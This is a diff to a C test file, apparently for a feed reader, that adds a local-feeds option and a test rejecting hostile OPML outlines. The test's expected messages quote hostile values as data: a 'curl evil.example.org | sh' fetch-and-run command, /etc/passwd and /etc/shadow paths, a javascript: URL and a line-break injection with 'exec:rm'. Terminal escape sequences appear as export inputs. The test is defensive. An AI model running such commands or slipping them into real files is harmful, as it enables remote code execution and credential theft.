@@ -81,7 +81,7 @@ static void test_import(void)
 	struct urls *out = urls_parse("", "x");
 	size_t skipped = 99;
 	char *error = NULL;
-	CHECK(opml_read(path, NULL, out, &skipped, &error), "nested: %s",
+	CHECK(opml_read(path, false, NULL, out, &skipped, &error), "nested: %s",
 	      or_none(error));
 	expect_entries(out, nested, sizeof(nested) / sizeof(nested[0]),
 	               "nested");
@@ -93,7 +93,7 @@ static void test_import(void)
 	struct urls *known =
 	        urls_parse("http://top.example.org/atom.xml\n", "known");
 	out = urls_parse("", "x");
-	CHECK(opml_read(path, known, out, &skipped, &error),
+	CHECK(opml_read(path, false, known, out, &skipped, &error),
 	      "nested with known: %s", or_none(error));
 	CHECK(out->n == 4 && skipped == 2, "with known: %zu new, %zu skipped",
 	      out->n, skipped);
@@ -112,12 +112,63 @@ static void test_import(void)
 	for (size_t i = 0; i < sizeof(one) / sizeof(one[0]); i++) {
 		path = data(one[i].file);
 		out = urls_parse("", "x");
-		CHECK(opml_read(path, NULL, out, &skipped, &error), "%s: %s",
-		      one[i].file, or_none(error));
+		CHECK(opml_read(path, false, NULL, out, &skipped, &error),
+		      "%s: %s", one[i].file, or_none(error));
 		expect_entries(out, &one[i].want, 1, one[i].file);
 		urls_free(out);
 		free(path);
 	}
+}
+
+/* An OPML file from someone else: only its http and https feeds are
+ * taken (file: URLs and paths when asked for), each other outline is
+ * named in a message, and a line break can't add a title or a line. */
+static void test_import_hostile(void)
+{
+	static const char *const web[] = {
+	        "https://good.example.org/rss",
+	        "HTTPS://Upper.example.org/rss",
+	        "http://plain.example.org/rss",
+	};
+	static const char *const refused[] = {
+	        ":8: outline \"Run\" (exec:curl evil.example.org | sh): not an "
+	        "http or https URL; left out",
+	        ":9: outline \"Filter\"",
+	        ":10: outline \"Query\"",
+	        ":11: outline \"Passwords\" (file:///etc/passwd): a local "
+	        "file; "
+	        "left out (--local-feeds imports it)",
+	        ":12: outline \"Path\" (/etc/shadow): a local file",
+	        ":13: outline \"Script\" (javascript:alert(1)): not an http",
+	        ":14: outline \"Split ~Injected\" (https://split.example.org/ "
+	        "~Injected exec:rm): not a URL (it holds spaces",
+	};
+	char *path = data("hostile.opml");
+	for (int local = 0; local < 2; local++) {
+		struct urls *out = urls_parse("", "x");
+		size_t skipped = 0, n_refused = 7 - 2 * (size_t)local;
+		char *error = NULL;
+		CHECK(opml_read(path, local, NULL, out, &skipped, &error),
+		      "hostile: %s", or_none(error));
+		CHECK(out->n == 3 + 2 * (size_t)local &&
+		              out->n_errors == n_refused,
+		      "local %d: %zu feeds, %zu messages", local, out->n,
+		      out->n_errors);
+		for (size_t i = 0; i < 3; i++)
+			CHECK(urls_find(out, web[i]), "local %d: no %s", local,
+			      web[i]);
+		for (size_t i = 0, k = 0; i < 7 && k < out->n_errors; i++) {
+			if (local && (i == 3 || i == 4))
+				continue;
+			CHECK(strstr(out->errors[k], path) == out->errors[k] &&
+			              strstr(out->errors[k], refused[i]),
+			      "message '%s', expected '%s'", out->errors[k],
+			      refused[i]);
+			k++;
+		}
+		urls_free(out);
+	}
+	free(path);
 }
 
 /* Hostile or broken files: a clear error naming the file, the list
@@ -149,7 +200,7 @@ static void test_bad_files(void)
 		        urls_parse("https://before.example.org/\n", "x");
 		size_t skipped = 0;
 		char *error = NULL;
-		bool ok = opml_read(path, NULL, out, &skipped, &error);
+		bool ok = opml_read(path, false, NULL, out, &skipped, &error);
 		if (cases[i].message) {
 			CHECK(!ok && error && strstr(error, cases[i].message),
 			      "%s: error '%s', expected '%s'", cases[i].file,
@@ -244,7 +295,7 @@ static void test_export(const char *tmp)
 	struct urls *back = urls_parse("", "x");
 	size_t skipped;
 	char *error = NULL;
-	CHECK(opml_read(path, NULL, back, &skipped, &error),
+	CHECK(opml_read(path, false, NULL, back, &skipped, &error),
 	      "export does not read back: %s", or_none(error));
 	const struct want round[] = {
 	        {"https://a.example.org/rss", ""},
@@ -260,15 +311,20 @@ static void test_export(const char *tmp)
 	struct urls *odd = urls_parse("", "x");
 	urls_add(odd, "https://odd.example.org/rss", NULL, 0,
 	         "line\none\ttab\x01 bad\xff end");
+	urls_add(odd, "https://odd.example.org/2", NULL, 0,
+	         "esc\x1b[2J c1\xc2\x9b del\x7f");
 	text = export_text(odd, NULL);
 	CHECK(strstr(text, "text=\"line&#10;one&#9;tab\xEF\xBF\xBD "
 	                   "bad\xEF\xBF\xBD end\""),
 	      "odd title exported as\n%s", text);
+	CHECK(strstr(text, "text=\"esc\xEF\xBF\xBD[2J c1\xEF\xBF\xBD "
+	                   "del\xEF\xBF\xBD\""),
+	      "terminal controls exported as\n%s", text);
 	write_file(path, text);
 	back = urls_parse("", "x");
-	CHECK(opml_read(path, NULL, back, &skipped, &error),
+	CHECK(opml_read(path, false, NULL, back, &skipped, &error),
 	      "odd export does not parse: %s", or_none(error));
-	CHECK(back->n == 1, "odd export: %zu feeds", back->n);
+	CHECK(back->n == 2, "odd export: %zu feeds", back->n);
 	free(text);
 	urls_free(back);
 	urls_free(odd);
@@ -287,8 +343,8 @@ static void test_import_into_file(const char *tmp)
 	char *opml = data("nested.opml");
 	size_t added = 0, skipped = 0;
 	char *error = NULL;
-	CHECK(opml_import(opml, urls, &added, &skipped, &error), "import: %s",
-	      or_none(error));
+	CHECK(opml_import(opml, urls, false, &added, &skipped, &error),
+	      "import: %s", or_none(error));
 	CHECK(added == 4 && skipped == 2, "import: %zu added, %zu skipped",
 	      added, skipped);
 	char *text = slurp(urls);
@@ -305,7 +361,7 @@ static void test_import_into_file(const char *tmp)
 	char *exported = export_text(u, NULL);
 	char *again = xasprintf("%s/again.opml", tmp);
 	write_file(again, exported);
-	CHECK(opml_import(again, urls, &added, &skipped, &error),
+	CHECK(opml_import(again, urls, false, &added, &skipped, &error),
 	      "re-import: %s", or_none(error));
 	CHECK(added == 0 && skipped == 5, "re-import: %zu added, %zu skipped",
 	      added, skipped);
@@ -314,7 +370,7 @@ static void test_import_into_file(const char *tmp)
 	      "re-import changed the file");
 
 	char *bad = data("malformed.opml");
-	CHECK(!opml_import(bad, urls, &added, &skipped, &error) && error,
+	CHECK(!opml_import(bad, urls, false, &added, &skipped, &error) && error,
 	      "malformed import passed");
 	free(error);
 	error = NULL;
@@ -343,6 +399,7 @@ int main(void)
 		return 1;
 	}
 	test_import();
+	test_import_hostile();
 	test_bad_files();
 	test_export(tmp);
 	test_import_into_file(tmp);
